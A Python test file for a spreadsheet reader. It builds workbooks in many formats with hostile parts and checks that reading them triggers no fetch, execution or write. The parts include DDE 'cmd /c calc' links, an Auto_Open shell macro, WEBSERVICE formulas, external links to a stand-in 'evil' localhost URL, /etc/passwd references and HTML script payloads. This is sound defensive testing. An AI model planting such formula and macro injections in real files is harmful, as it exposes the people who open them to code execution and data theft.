"""Links, DDE, macros, queries and embedded things in a file: while it is read nothing is fetched, started, written."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Mapping
from pathlib import Path

import pytest

from tests.builders import csv_bytes, edited_package, people, roster_grid, with_cells, xls_bytes
from tests.builders.books import Page, html_book, ods_book, xls_book, xlsm_book, xlsx_book
from tests.builders.packages import RELATIONSHIPS
from tests.builders.spreadsheetml import spreadsheetml_book
from tests.builders.webarchive import web_archive_book
from tests.builders.xlsb import xlsb_book
from tests.cli.harness import environment

SCRIPT = Path(__file__).parent / "untouched.py"
AWAY = "http://localhost:1/evil"
NAMES = [person.name for person in people(3)]
PAGES = [Page("高一", roster_grid())]
LINKS = "".join(
    f'<Relationship Id="rIdE{i}" Type="{RELATIONSHIPS}/{kind}" Target="{target}" TargetMode="External"/>'
    for i, (kind, target) in enumerate(
        [
            *[("externalLinkPath", AWAY), ("attachedTemplate", f"{AWAY}.xltm"), ("hyperlink", "file:///etc/passwd")],
            *[("oleObject", "\\\\localhost\\share\\x"), ("image", AWAY), ("connections", AWAY), ("queryTable", AWAY)],
        ]
    )
)
DDE = (
    '<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink>',
    f'<oleLink r:id="rIdE0" progId="Word.Document"/><webPr url="{AWAY}" refreshOnLoad="1"/>',
)
_EXTRA = {
    "xl/externalLinks/externalLink1.xml": f"<externalLink>{DDE[0]}</externalLink>",
    "xl/externalLinks/_rels/externalLink1.xml.rels": f"<Relationships>{LINKS}</Relationships>",
    "xl/connections.xml": f'<connections><connection refreshOnLoad="1" type="4">{DDE[1]}</connection></connections>',
    "xl/vbaProject.bin": 'Sub Auto_Open()\nShell "calc"\nEnd Sub',
    "xl/macrosheets/sheet1.xml": "<macrosheet><sheetData><row><c><f>EXEC(1)</f></c></row></sheetData></macrosheet>",
    "xl/activeX/activeX1.bin": "calc",
    "xl/embeddings/oleObject1.bin": "calc",
    "customUI/customUI.xml": '<customUI onLoad="Auto_Open"/>',
}


def with_everything(content: bytes, relations: str = "xl/_rels/workbook.xml.rels") -> bytes:
    """A workbook with parts that Excel would ask about: links, queries, macros, objects."""
    import zipfile
    from io import BytesIO

    linked = {relations: lambda part: part.replace(b"</Relationships>", f"{LINKS}</Relationships>".encode())}
    target = BytesIO(edited_package(content, linked))
    with zipfile.ZipFile(target, "a") as archive:
        for name, part in _EXTRA.items():
            archive.writestr(name, part)
    return target.getvalue()


def calculated(part: bytes) -> bytes:
    """The remark of a row by a formula that goes away from here; its value was stored."""
    formulas = (f'WEBSERVICE("{AWAY}")', "cmd|'/c calc'!A0", "[1]Sheet1!A1", f'HYPERLINK("{AWAY}")', 'CALL("x","y")')
    cells = "".join(
        f'<c r="{chr(72 + i)}3" t="str"><f>{formula.replace("&", "&amp;")}</f><v>x</v></c>'
        for i, formula in enumerate(formulas)
    )
    at = part.index(b"</row>", part.index(b'r="3"'))
    return part[:at] + cells.encode() + part[at:]


ODS_EVIL = (
    f'<table:dde-links><table:dde-link><office:dde-source office:dde-application="cmd" office:dde-item="A0" '
    f'office:dde-topic="/c calc" office:automatic-update="true"/></table:dde-link></table:dde-links>'
    f'<office:scripts xmlns:xlink="http://www.w3.org/1999/xlink"><script:event-listener xmlns:script="x" '
    f'xlink:href="vnd.sun.star.script:a?language=Basic"/><x xlink:href="{AWAY}"/></office:scripts>'
)
PAGE_EVIL = (
    f'<base href="{AWAY}/"><link rel="stylesheet" href="{AWAY}"><meta http-equiv="refresh" content="0;url={AWAY}">'
    f'<script src="{AWAY}">document.write("<table><tr><td>x</table>")</script><iframe src="{AWAY}"></iframe>'
    f'<img src="{AWAY}" onerror="alert(1)"><object data="file:///etc/passwd"></object><xml><x:DDE>cmd</x:DDE></xml>'
)
GOOD: Mapping[str, bytes] = {
    "xlsx": xlsx_book(PAGES),
    "xlsm": xlsm_book(PAGES),
    "xlsb": xlsb_book(PAGES),
    "xls": xls_book(PAGES),
    "ods": ods_book(PAGES),
    "csv": csv_bytes(roster_grid()),
    "html": html_book(PAGES),
    "xml": spreadsheetml_book(PAGES),
    "mht": web_archive_book(PAGES),
}
_REMARKS = with_cells(
    roster_grid(), {"H2": "备注", "H3": "=cmd|'/c calc'!A0", "H4": f'=HYPERLINK("{AWAY}")', "H5": "@SUM(A1)"}
)
EVIL: Mapping[str, bytes] = {
    "xlsx": edited_package(with_everything(GOOD["xlsx"]), {"xl/worksheets/sheet1.xml": calculated}),
    "xlsm": edited_package(with_everything(GOOD["xlsm"]), {"xl/worksheets/sheet1.xml": calculated}),
    "xlsb": with_everything(GOOD["xlsb"], "xl/_rels/workbook.bin.rels"),
    "xls": xls_bytes(_REMARKS),
    "ods": edited_package(
        GOOD["ods"],
        {
            "content.xml": lambda part: part.replace(
                b"<office:spreadsheet>", b"<office:spreadsheet>" + ODS_EVIL.encode()
            )
        },
    ),
    "csv": csv_bytes(_REMARKS),
    "html": GOOD["html"]
    .replace(b"<head>", b"<head>" + PAGE_EVIL.encode())
    .replace(b"<body>", b"<body>" + PAGE_EVIL.encode()),
    "xml": GOOD["xml"].replace(
        b"<Worksheet", f'<?xml-stylesheet href="{AWAY}"?><x:ExternName x:Href="{AWAY}"/><Worksheet'.encode(), 1
    ),
    "mht": web_archive_book(PAGES).replace(b"file:///C:/x/", AWAY.encode() + b"/"),
}


def read(folder: Path, name: str, good: bytes, hostile: bytes) -> dict[str, list[str]]:
    paths = folder / f"good.{name}", folder / f"名册.{name}"
    for path, content in zip(paths, (good, hostile), strict=True):
        path.write_bytes(content)
    before = sorted(folder.iterdir())
    done = subprocess.run(
        [sys.executable, SCRIPT, *paths],
        capture_output=True,
        encoding="utf-8",
        check=False,
        env=environment(),
        cwd=folder,
    )
    assert (done.returncode, done.stderr) == (0, "")
    assert sorted(folder.iterdir()) == before
    said: dict[str, list[str]] = json.loads(done.stdout)
    return said


@pytest.mark.parametrize("ending", EVIL)
def test_nothing_is_fetched_started_or_written(tmp_path: Path, ending: str) -> None:
    assert EVIL[ending] != GOOD[ending]
    said = read(tmp_path, ending, GOOD[ending], EVIL[ending])
    assert said == {"touched": [], "names": NAMES, "codes": []}


def test_the_harness_hears_what_is_touched(tmp_path: Path) -> None:
    """A reader that opened what the file names would be heard: here one that is made to."""
    (tmp_path / "sitecustomize.py").write_text(
        "import aidledger.operations.examining as e\nread = e.read_grid\n"
        "def touching(content, limits):\n"
        "    for name in ('x', '/etc/passwd'):\n"
        "        try: open(name, 'w' if name == 'x' else 'r').close()\n"
        "        except OSError: pass\n"
        "    import socket\n"
        "    try: socket.socket()\n"
        "    except OSError: pass\n"
        "    return read(content, limits)\n"
        "e.read_grid = touching\n"
    )
    paths = tmp_path / "a.csv", tmp_path / "b.csv"
    for path in paths:
        path.write_bytes(GOOD["csv"])
    env = environment()
    env["PYTHONPATH"] = f"{tmp_path}:{env['PYTHONPATH']}"
    done = subprocess.run(
        [sys.executable, SCRIPT, *paths], capture_output=True, encoding="utf-8", check=True, env=env, cwd=tmp_path
    )
    touched = json.loads(done.stdout)["touched"]
    assert "open 'x'" in touched
    assert "open '/etc/passwd'" in touched
    assert any(event.startswith("socket.") for event in touched)
